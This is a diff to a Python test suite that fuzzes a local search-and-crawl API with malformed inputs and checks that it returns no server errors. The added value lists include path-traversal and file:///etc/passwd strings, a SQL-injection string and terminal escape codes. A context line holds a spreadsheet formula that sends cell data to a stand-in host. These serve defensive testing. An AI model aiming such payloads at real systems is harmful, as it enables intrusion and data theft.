@@ -6,6 +6,7 @@ import re
 import resource
 import socket
 import time
+from collections import Counter
 from collections.abc import Iterator
 from concurrent.futures import ThreadPoolExecutor
 from pathlib import Path
@@ -23,6 +24,18 @@ _HALF_A_BODY = (
     b"Content-Length: 1000\r\n\r\n{"
 )
 _HALF_A_HEAD = b"GET /api/site HTTP/1.1\r\nHost: loc"
+_POLYGON = '{"type":"Polygon","coordinates":[[[0,0],[%s,1],[1,%s],[0,0]]]}'
+_NUMBERS = (
+    "1" + "0" * 400, "1" + "0" * 5000, "1e999", "-1e400", "NaN", "-Infinity", "nan", "-inf", "-1",
+    "-0", "9223372036854775808", "1e308", "0x1", "1_0", "\u0663", "+1", "1.", ".5", "1e-999",
+)  # fmt: skip
+_TEXTS = (
+    "", " ", "\0", "\u2028", "\ud7ff", "\u202e", "%", "../../../../etc/passwd", "/dev/zero",
+    "a" * 30_000, "(" * 5000, "[" * 50_000, '"' * 999, "\u0301" * 3000, "*", "a:b:c", "1,2,3,4,5",
+    "http://[::1", "file:///etc/passwd", "\x1b]0;x\x07", "' OR 1=1 --", "1,1,1e400", "nan,nan,nan",
+    "-180,-91,180,91",
+)  # fmt: skip
+_QUESTIONS = 500  # of each campaign
 _FORMULA = '=HYPERLINK("http://bad.test/?"&A1,"x")'
 
 
@@ -41,14 +54,18 @@ def serving(arena: Arena, *folders: str, **settings: Any) -> Iterator[tuple[Comm
         command.kill()
 
 
-def ask(port: int, path: str, seconds: float = 20, **headers: str) -> tuple[int, bytes]:
+def ask(
+    port: int, path: str, seconds: float = 20, body: bytes | None = None, **headers: str
+) -> tuple[int, bytes]:
     """Status and body; 0 where no answer came in time."""
-    request = Request(f"http://127.0.0.1:{port}{path}", headers=headers)
+    request = Request(f"http://127.0.0.1:{port}{path}", body, headers=headers)
     try:
         with urlopen(request, timeout=seconds) as answer:
             return answer.status, answer.read()
     except HTTPError as error:
-        return error.code, error.read()
+        with contextlib.suppress(OSError):  # it closes when what we send is too long
+            return error.code, error.read()
+        return error.code, b""
     except OSError as error:
         return 0, str(error).encode()
 
@@ -178,6 +195,57 @@ def follows_again(arena: Arena) -> str:
 def _found(port: int) -> int:
     status, body = ask(port, "/api/search?q=shop&facets=false")
     return int(json.loads(body).get("total", 0)) if status == 200 else 0
+
+
+def _odd_value(arena: Arena) -> str:
+    chance = arena.chance
+    number = chance.choice(_NUMBERS)
+    return chance.choice((number, chance.choice(_TEXTS), _POLYGON % (number, 1), f"1,{number},5"))
+
+
+def _odd_question(arena: Arena, described: dict[str, Any]) -> tuple[str, bytes | None]:
+    """A path, and a body where one is posted: as described, but for one or two odd values."""
+    path, kinds = arena.chance.choice(sorted(described["paths"].items()))
+    if "get" not in kinds:
+        odd = arena.chance.choice((f'"{_odd_value(arena)[:9000]}"', _odd_value(arena)))
+        names = ("text", "region", "seed", "crawl", "host", "more", "contact", "max_pages")
+        members = ",".join(f'"{n}":{odd if n != "region" else f"[{odd}]"}' for n in names)
+        return path, arena.chance.choice((f"{{{members}}}", odd, "[" * 20_000)).encode()
+    every = {
+        one["name"]: one for one in kinds["get"].get("parameters", []) if one["name"] != "crawl"
+    }
+    given = {name: one["example"] for name, one in every.items() if "example" in one}
+    given |= {"url": "http://good.test/"} if "url" in every else {}
+    for name in arena.chance.sample(sorted(every), min(len(every), arena.chance.choice((1, 1, 2)))):
+        given[name] = _odd_value(arena)
+    for name in re.findall(r"{(\w+)}", path):
+        path = path.replace(f"{{{name}}}", quote(str(given.pop(name, 1)), safe=""))
+    query = "&".join(f"{name}={quote(str(value), safe='')}" for name, value in given.items())
+    return f"{path}?{query}", None
+
+
+@scenario("No request is a server error", seconds=40)
+def odd_questions(arena: Arena) -> str:
+    """Numbers of 400 digits, areas that cannot be, half texts and depths, at every endpoint."""
+    _crawled(arena, {"good.test": site_of_pages(5)})
+    with serving(arena, "out") as (command, port):
+        described = ask_json(port, "/api/openapi.json")
+        key = re.search(r"key=([\w-]+)", command.text())
+        fields = {"Content-Type": "application/json", "X-Geoscout-Key": key[1] if key else ""}
+        counts: Counter[int] = Counter()
+        for _ in range(_QUESTIONS):
+            path, body = _odd_question(arena, described)
+            if "/events" in path or "/control/crawls" in path or "/resume" in path:
+                continue  # which go on for long
+            status, answer = ask(port, path, 30 * arena.slower, body, **fields)
+            counts[status] += 1
+            what = f"{path:.300} {body or b''!r:.300}"
+            check(status in (503, *range(200, 500)), f"status {status} for {what}: {answer!r:.200}")
+        check(not command.has_traceback(), f"a traceback: {command.last_line()}")
+        check(ask(port, "/api/site")[0] == 200, "it does not answer any more")
+        stopped = command.stop(15 * arena.slower)
+    told = ", ".join(f"{number} x {status}" for status, number in sorted(counts.items()))
+    return f"{told}; SIGTERM obeyed in {stopped:.1f} s"
 
 
 @scenario("Spreadsheets run nothing of exported CSV, in any locale", seconds=12)
